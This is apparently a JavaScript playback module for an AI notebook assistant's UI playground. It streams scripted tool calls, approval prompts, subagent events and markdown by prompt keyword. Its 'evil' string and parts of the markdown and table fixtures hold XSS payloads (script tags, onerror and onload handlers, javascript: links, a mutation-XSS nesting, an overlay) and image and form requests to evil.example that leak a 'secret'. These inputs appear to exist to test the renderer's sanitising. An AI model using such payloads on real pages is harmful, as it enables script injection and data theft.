// What the playground's agent plays back, by the first word of the prompt.

import { readFileSync } from "node:fs";
import { playAgent } from "./agent.mjs";

/** Texts that nest deep or would take long, as the tests of cells have them. */
const HEAVY = JSON.parse(readFileSync(new URL("../../tests/kernel/heavy_markdown.json", import.meta.url), "utf8"));

const sleep = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

let count = 0;
const id = (prefix) => `${prefix}_${Date.now().toString(36)}_${(count += 1)}`;

export async function* play(text, session) {
  const [word, number] = text.split(" ");
  switch (word) {
    case "code":
      yield* approveCode(session);
      return;
    case "cell":
      yield* approve("edit_cell", { path: "analysis.ipynb", cell: "4", search: OLD_CELL, replace: NEW_CELL }, { done: true });
      yield* say("The cell is fixed.", 10);
      return;
    case "agent":
      yield* playAgent(session, { say, think });
      return;
    case "many": {
      const calls = [begin("write_file", { path: "notes.md", content: "# Notes\n\nThe loss is flat." }), begin("mcp__search", { query: "flat loss", limit: 5, deep: true, filters: { year: 2026 } })];
      yield calls.flatMap(({ events }) => events);
      const answers = yield { ask: calls.map(({ id: tool_call_id, tool, args }) => ({ kind: "approval", message: `Navi wants to use ${tool}.`, tool_call_id, tool, args })) };
      for (const [index, answer] of answers.entries()) yield resultOf(calls[index].id, isApproved(answer) ? { ok: true } : { error: "tool_denied", message: "The user said no." });
      yield* say("Both are settled.", 10);
      return;
    }
    case "question": {
      const [answer] = yield { ask: [{ kind: "question", message: "Which data set should I take?", response_schema: SCHEMA, durable: false }] };
      yield* say(`You answered: ${answer.status} ${JSON.stringify(answer.payload)}`, 5);
      return;
    }
    case "expire":
      yield* approve("run_code", { code: "1 / 0" }, { ok: true }, { expires_at: new Date(Date.now() + Number(number ?? 90) * 1000).toISOString() });
      return;
    case "output":
      yield* output(Number(number ?? 30), Number(text.split(" ")[2] ?? 30));
      return;
    case "workers":
      yield* workers(session);
      return;
    case "steps":
      for (let step = 1; step <= Number(number ?? 5); step += 1) yield* say(`Step ${step} of the work. `, 60);
      return;
    case "usage":
      session.run.usage = { input_tokens: 12_345, output_tokens: 678, requests: 2, cost: 0.0421 };
      yield { type: "CUSTOM", name: "navi.usage", value: { run_id: session.run.id, usage: session.run.usage } };
      yield* say("That was not cheap.", 10);
      return;
    case "fail":
      throw Object.assign(new Error("This run has used 50,312 of its 50,000 tokens. Raise run_token_budget, or ask for less."), { code: number ?? "budget_exceeded" });
    case "slow":
      yield* say("one two three four five six seven eight nine ten ".repeat(Number(number ?? 20)), 40);
      return;
    case "long":
      yield* say(LONG.repeat(Number(number ?? 20)), 2, 40);
      return;
    case "error":
      yield* say("Let me look at this", 10);
      throw Object.assign(new Error("The provider answered 401: check OPENAI_API_KEY, or choose another model with %navi model NAME."), { code: "model_unauthorized" });
    case "wait":
      await sleep(Number(number ?? 3) * 1000);
      yield* say("Done waiting.", 10);
      return;
    case "server":
      for await (const event of call("run_code", { code: "1 + 1" }, { text: "2" }, 10)) {
        if (event.type === "TOOL_CALL_RESULT") {
          yield { type: "CUSTOM", name: "navi.kernel", value: { status: "server_starting" } };
          await sleep(Number(number ?? 3) * 1000);
          yield { type: "CUSTOM", name: "navi.kernel", value: { status: "server_ready" } };
        }
        yield event;
      }
      yield* say("It is there.", 10);
      return;
    case "tools":
      yield* think("The user wants to be reminded. I should look at the clock, then make a recall ten minutes from now.");
      yield* call("list_recalls", {}, { recalls: [] }, 300);
      yield* call("schedule_recall", { message: "check the loss", in: "10m" }, { id: "rc_1", next_at: new Date(Date.now() + 600_000).toISOString() }, 900);
      yield* say("Done. I will be back **in ten minutes** to check the loss.", 15);
      return;
    case "notebook": {
      const result = "reports/weekly-results/weekly-2026-12-01-0900.ipynb";
      const failed = { error: "notebook_failed", message: "In [2], `1 / 0`: ZeroDivisionError: division by zero", cell: "c-2" };
      yield* call("run_notebook", { path: "reports/weekly.ipynb", parameters: { days: 7 } }, { result, cells: 3, of: 3, seconds: 2.1, ...(number === "fails" ? failed : {}) }, 300);
      yield* say(`\`reports/weekly.ipynb\` ${number === "fails" ? "failed in **In [2]**" : "has run: 3 cells in 2.1 s"}.\n\nResult: \`${result}\``, 10);
      return;
    }
    case "heavy": // by number
      yield* say(Object.values(HEAVY)[Number(number ?? 0)].map(([part, count]) => part.repeat(count)).join(""), 5, 100_000);
      return;
    case "features":
      yield* say(FEATURES, 5, 60);
      return;
    case "calls":
      yield* call("read_notebook", { cells: "2" }, "[2] code", 50);
      yield* call("create_recall", { message: "check the loss", when: "in 10m" }, { id: "rc_1", title: "check the loss" }, 50);
      yield* call("write_file", { path: "notes.md", content: "x" }, { error: "not_allowed", message: "The ceiling denies write_file." }, 50);
      yield* call("github__search_issues", { query: "flat loss" }, { found: 3 }, 50);
      yield* call("read_file", { path: "data/none.csv" }, { error: "file_not_found", message: "There is no file data/none.csv." }, 50);
      yield* say("All five are there.", 10);
      return;
    case "evil":
      yield* say(EVIL, 5, 60);
      return;
    default:
      yield* say(RICH, 8, 12);
  }
}

// --- tools, questions, workers -----------------------------------------------------------------------------------------

function begin(tool, args) {
  const toolCallId = id("tc");
  const events = [
    { type: "TOOL_CALL_START", toolCallId, toolCallName: tool },
    { type: "TOOL_CALL_ARGS", toolCallId, delta: JSON.stringify(args) },
    { type: "TOOL_CALL_END", toolCallId },
  ];
  return { id: toolCallId, tool, args, events };
}

function resultOf(toolCallId, result) {
  return { type: "TOOL_CALL_RESULT", messageId: id("m"), toolCallId, content: typeof result === "string" ? result : JSON.stringify(result), role: "tool" };
}

const isApproved = ({ status, payload }) => status === "resolved" && payload?.approved !== false;

/** Asks whether a tool may run, and runs it, or does not. Answers what was answered. */
async function* approve(tool, args, result, more = {}) {
  const call = begin(tool, args);
  yield call.events;
  const [answer] = yield { ask: [{ kind: "approval", message: `Navi wants to use ${tool}.`, tool_call_id: call.id, tool, args, ...more }] };
  if (isApproved(answer)) yield resultOf(call.id, { ...result, used: answer.payload?.args ?? args });
  else yield resultOf(call.id, { error: "tool_denied", message: answer.payload?.message ?? `The question was ${answer.status}.` });
  return answer;
}

async function* approveCode(session) {
  yield* say("I will look at the numbers.", 5);
  const call = begin("run_code", { code: CODE, timeout: 60 });
  yield call.events;
  const [answer] = yield { ask: [{ kind: "approval", message: "Navi wants to use run_code.", tool_call_id: call.id, tool: "run_code", args: call.args, expires_at: new Date(Date.now() + 3_600_000).toISOString() }] };
  if (!isApproved(answer)) {
    yield resultOf(call.id, { error: "tool_denied", message: answer.payload?.message ?? "The user said no." });
    yield* say(`Then I will not. ${answer.payload?.message ?? ""}`, 10);
    return;
  }
  const ran = answer.payload?.args?.code ?? CODE;
  yield { type: "ACTIVITY_SNAPSHOT", messageId: id("x"), activityType: "navi.output", content: { toolCallId: call.id, outputs: [{ output_type: "stream", name: "stdout", text: `ran ${ran.split("\n").length} lines\n` }] } };
  yield resultOf(call.id, { status: "ok" });
  yield* say(session.allowed.has("run_code") ? "Done, and I will not ask again." : "Done.", 10);
}

async function* output(chunks, pause) {
  const call = begin("run_code", { code: "for row in rows:\n    print(row)" });
  yield call.events;
  const messageId = id("x");
  const add = (...outputs) => ({ type: "ACTIVITY_DELTA", messageId, activityType: "navi.output", patch: outputs.map((value) => ({ op: "add", path: "/outputs/-", value })) });
  const stream = (text, name = "stdout") => ({ output_type: "stream", name, text });
  yield { type: "ACTIVITY_SNAPSHOT", messageId, activityType: "navi.output", content: { toolCallId: call.id, outputs: [] } };
  const progressId = id("x");
  yield { type: "ACTIVITY_SNAPSHOT", messageId: progressId, activityType: "navi.progress", content: { toolCallId: call.id, progress: 0, total: chunks, message: "rows" } };
  yield add(stream("\u001b[32mstarted\u001b[0m <b>not bold</b>\n"));
  const group = pause === 0 ? 50 : 1;
  for (let at = 0; at < chunks; at += group) {
    await sleep(pause);
    yield Array.from({ length: Math.min(group, chunks - at) }, (_, index) => add(stream(`row ${at + index}: ${"x".repeat(20)}\n`)));
    yield { type: "ACTIVITY_DELTA", messageId: progressId, activityType: "navi.progress", patch: [{ op: "replace", path: "/progress", value: at + group }] };
  }
  yield add(stream("10 %\r"), stream("100 %\n"));
  yield add({ output_type: "display_data", data: { "text/html": TABLE, "text/plain": "a table" }, metadata: {} });
  yield add({ output_type: "display_data", data: { "image/png": { attachment: "a_plot" }, "text/plain": "<Figure size 640x480>" }, metadata: {} });
  yield add({ output_type: "error", ename: "ZeroDivisionError", evalue: "division by zero", traceback: ["\u001b[31mZeroDivisionError\u001b[39m: division by zero"] });
  yield resultOf(call.id, { error: "cell_failed", message: "ZeroDivisionError: division by zero" });
  yield* say("It stumbled at the end.", 10);
}

async function* workers(session) {
  const calls = [begin("delegate", { task: "Find the odd rows", profile: "analyst" }), begin("delegate", { task: "Summarise the columns", profile: "assistant" })];
  yield calls.flatMap(({ events }) => events);
  const subs = calls.map(({ id: parentToolCallId, args }) => ({ subagentRunId: id("w"), name: args.profile, parentToolCallId }));
  yield subs.map((sub) => ({ type: "SUBAGENT_STARTED", ...sub }));
  const by = (sub, events) => events.map((event) => ({ ...event, subagentRunId: sub.subagentRunId }));
  const look = begin("list_variables", {});
  yield by(subs[0], look.events);
  for await (const event of say("Looking at the columns: there are twelve of them.", 25)) yield by(subs[1], [event]);
  yield by(subs[0], [resultOf(look.id, { variables: ["df"] })]);
  const run = begin("run_code", { code: "df[df.z > 4]" });
  yield by(subs[0], run.events);
  const [answer] = yield { ask: [{ kind: "approval", message: "Navi wants to use run_code.", tool_call_id: run.id, tool: "run_code", args: run.args, subagent_run_id: subs[0].subagentRunId, durable: false }] };
  yield by(subs[0], [resultOf(run.id, isApproved(answer) ? "2 rows" : { error: "tool_denied", message: "no" })]);
  for await (const event of say("Rows 17 and 99 are odd.", 10)) yield by(subs[0], [event]);
  yield { type: "SUBAGENT_FINISHED", subagentRunId: subs[0].subagentRunId, result: "Rows 17 and 99 are odd." };
  yield resultOf(calls[0].id, "Rows 17 and 99 are odd.");
  yield { type: "SUBAGENT_ERROR", subagentRunId: subs[1].subagentRunId, message: "It asked the model too often.", code: "max_iterations" };
  yield resultOf(calls[1].id, { error: "worker_failed", message: "It asked the model too often." });
  yield* say("One of my workers found the odd rows.", 10);
}

const OLD_CELL = "loss = model(batch).mean()\nloss.backward()\noptimizer.step()";
const NEW_CELL = "optimizer.zero_grad()\nloss = model(batch).mean()\nloss.backward()\ntorch.nn.utils.clip_grad_norm_(model.parameters(), 1.0)\noptimizer.step()";
const CODE = `import pandas as pd

df = pd.read_csv("runs.csv")  # 12 columns
df.groupby("model")["loss"].agg(["mean", "min"]).sort_values("mean")`;
const TABLE = `<style>td { color: red }</style><table><thead><tr><th></th><th>loss</th><th>lr</th></tr></thead><tbody><tr><th>0</th><td>2.31</td><td>1e-6</td></tr><tr><th>1</th><td>2.30</td><td>1e-6</td></tr></tbody></table><script>window.hacked = 6</script>`;
const SCHEMA = {
  type: "object",
  properties: {
    name: { type: "string", title: "Name", description: "As it is called in the catalogue", minLength: 2 },
    split: { type: "string", title: "Split", enum: ["train", "test", "all"], default: "train" },
    rows: { type: "integer", title: "Rows", minimum: 1, maximum: 1000, default: 100 },
    ratio: { type: "number", title: "Ratio" },
    shuffle: { type: "boolean", title: "Shuffle", default: true },
  },
  required: ["name", "split"],
};

async function* say(text, pause, size = 6) {
  const messageId = id("m");
  yield { type: "TEXT_MESSAGE_START", messageId, role: "assistant" };
  for (let at = 0; at < text.length; at += size) {
    await sleep(pause);
    yield { type: "TEXT_MESSAGE_CONTENT", messageId, delta: text.slice(at, at + size) };
  }
  yield { type: "TEXT_MESSAGE_END", messageId };
}

async function* think(text) {
  const messageId = id("t");
  yield { type: "REASONING_START", messageId };
  yield { type: "REASONING_MESSAGE_START", messageId, role: "reasoning" };
  yield { type: "REASONING_MESSAGE_CONTENT", messageId, delta: text };
  yield { type: "REASONING_MESSAGE_END", messageId };
  yield { type: "REASONING_END", messageId };
}

async function* call(toolCallName, args, result, milliseconds) {
  const toolCallId = id("tc");
  yield { type: "TOOL_CALL_START", toolCallId, toolCallName };
  yield { type: "TOOL_CALL_ARGS", toolCallId, delta: JSON.stringify(args) };
  yield { type: "TOOL_CALL_END", toolCallId };
  await sleep(milliseconds);
  yield { type: "TOOL_CALL_RESULT", messageId: id("m"), toolCallId, content: JSON.stringify(result), role: "tool" };
}

const RICH = `The loss is flat because the learning rate is **too small** after the warm-up. Two things to try:

1. Raise \`lr\` to \`3e-4\`
2. Shorten the warm-up

\`\`\`python
import torch

optimizer = torch.optim.AdamW(model.parameters(), lr=3e-4)  # was 1e-6
for step, batch in enumerate(loader):
    loss = model(batch).mean()
    loss.backward()
    print(f"{step}: {loss.item():.3f}")
\`\`\`

| step | loss | lr |
|---:|---:|---:|
| 100 | 2.31 | 1e-6 |
| 200 | 2.30 | 1e-6 |

> A flat loss is rarely the model's fault.

The update is $\\theta \\leftarrow \\theta - \\eta \\nabla L(\\theta)$, so with $\\eta = 10^{-6}$ nothing moves. See [the docs](https://pytorch.org/docs).

- [x] looked at the log
- [ ] changed the rate
`;

const LONG = `## A heading

A paragraph of text with **bold** and \`code\`, long enough to wrap over more than one line in a notebook, which is what
most paragraphs do after all.

\`\`\`python
def f(x):
    return x * 2
\`\`\`

`;

const FEATURES = `## What is there

- [x] load the data
- [ ] train
  - [ ] with a smaller rate

The loss is flat[^1], as others saw[^note].

| run | loss | epochs | changed |
|---|---|---|---|
| base | 0.412 | 1,000 | yes |
| small rate | 0.39 | 20 | no |

| a wide table | ${Array.from({ length: 14 }, (_, index) => `column number ${index}`).join(" | ")} |
|${"---|".repeat(15)}
| x | ${Array.from({ length: 14 }, (_, index) => 1000 * index).join(" | ")} |

1. nested
   - code in a list:
     \`\`\`python
     def f(x):  # double
         return x * 2
     \`\`\`
   > and a quote

\`\`\`python
for epoch in range(10):
    loss = train(model, rate=1e-3)  # "flat"
    print(f"{epoch}: {loss:.3f}")
\`\`\`

![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==) ![secret](https://evil.example/p.png)

مرحبا بالعالم، هذا نص من اليمين.

[^1]: See the *plot* above.
[^note]: In other words: the rate.
    It goes on here.
`;

const EVIL = `Before <script>window.hacked = 1</script> <img src=x onerror="window.hacked = 2">
<img src="https://evil.example/pixel.png?secret" alt="chart"> ![plot](https://evil.example/p.png)
<style>body { display: none }</style> <form action="https://evil.example"><input name=a><button>go</button></form>
<a href="javascript:window.hacked=3">click</a> <div class="jp-Dialog" style="position:fixed;inset:0" id="main" data-navi="send" data-commandlinker-command="x">overlay</div>
<svg onload="window.hacked=4"><use href="https://evil.example/x.svg#a"/></svg> <iframe src="https://evil.example"></iframe>
<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=5"></style></mglyph></table></mtext></math>
<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video> after.
`;
